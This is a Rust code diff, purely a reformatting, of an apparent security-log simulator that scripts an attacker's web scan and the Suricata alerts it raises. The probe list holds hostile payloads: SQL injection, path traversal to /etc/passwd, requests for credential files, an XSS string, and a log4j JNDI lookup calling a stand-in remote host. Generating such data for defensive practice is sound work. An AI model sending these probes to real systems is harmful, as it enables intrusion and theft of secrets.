@@ -29,12 +29,28 @@ pub(super) fn normal_day(script: &mut Script, rng: &mut Rng) {
 pub(super) fn scan(script: &mut Script, rng: &mut Rng, start: Timestamp) -> Timestamp {
     let attacker = script.world.attacker.to_string();
     script.chapter(start, format!("{attacker} scans the web site for holes"));
-    let agent = one_of(rng, &["Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)", "sqlmap/1.8.4#stable (https://sqlmap.org)"]);
+    let agent = one_of(
+        rng,
+        &["Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)", "sqlmap/1.8.4#stable (https://sqlmap.org)"],
+    );
     let probes = [
-        "/.env", "/.git/config", "/wp-login.php", "/phpmyadmin/index.php", "/admin/login", "/backup.zip", "/server-status",
-        "/actuator/env", "/cgi-bin/test.cgi", "/config.php.bak", "/.aws/credentials", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
-        "/product/1?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--", "/product/7?id=7%27%20OR%20%271%27=%271",
-        "/download?file=../../../../etc/passwd", "/static/..%2f..%2f..%2fetc%2fpasswd", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
+        "/.env",
+        "/.git/config",
+        "/wp-login.php",
+        "/phpmyadmin/index.php",
+        "/admin/login",
+        "/backup.zip",
+        "/server-status",
+        "/actuator/env",
+        "/cgi-bin/test.cgi",
+        "/config.php.bak",
+        "/.aws/credentials",
+        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
+        "/product/1?id=1%27%20UNION%20SELECT%20username,password%20FROM%20users--",
+        "/product/7?id=7%27%20OR%20%271%27=%271",
+        "/download?file=../../../../etc/passwd",
+        "/static/..%2f..%2f..%2fetc%2fpasswd",
+        "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
         "/?x=${jndi:ldap://203.0.113.200:1389/a}",
     ];
     let mut order: Vec<&str> = probes.to_vec();
@@ -57,7 +73,12 @@ fn suricata_saw_it(script: &mut Script, rng: &mut Rng, start: Timestamp) {
     let signatures = [
         (2_002_677, "ET SCAN Nikto Web App Scan in Progress", "Web Application Attack", 1),
         (2_006_446, "ET WEB_SERVER Possible SQL Injection Attempt UNION SELECT", "Web Application Attack", 1),
-        (2_034_647, "ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)", "Attempted Administrator Privilege Gain", 1),
+        (
+            2_034_647,
+            "ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)",
+            "Attempted Administrator Privilege Gain",
+            1,
+        ),
         (2_009_362, "ET WEB_SERVER /etc/passwd Detected in URI", "Attempted Information Leak", 2),
     ];
     for (index, (id, signature, category, severity)) in signatures.into_iter().enumerate() {
@@ -67,7 +88,16 @@ fn suricata_saw_it(script: &mut Script, rng: &mut Rng, start: Timestamp) {
 }
 
 #[expect(clippy::too_many_arguments, reason = "one line of an access log has these parts")]
-fn access(script: &mut Script, time: Timestamp, client: &str, method: &str, path: &str, status: u16, bytes: u32, agent: &str) {
+fn access(
+    script: &mut Script,
+    time: Timestamp,
+    client: &str,
+    method: &str,
+    path: &str,
+    status: u16,
+    bytes: u32,
+    agent: &str,
+) {
     let stamp = time.to_jiff().strftime("%d/%b/%Y:%H:%M:%S +0000");
     let line = format!("{client} - - [{stamp}] \"{method} {path} HTTP/1.1\" {status} {bytes} \"-\" \"{agent}\"");
     script.beat(time, Door::AccessLog, line);
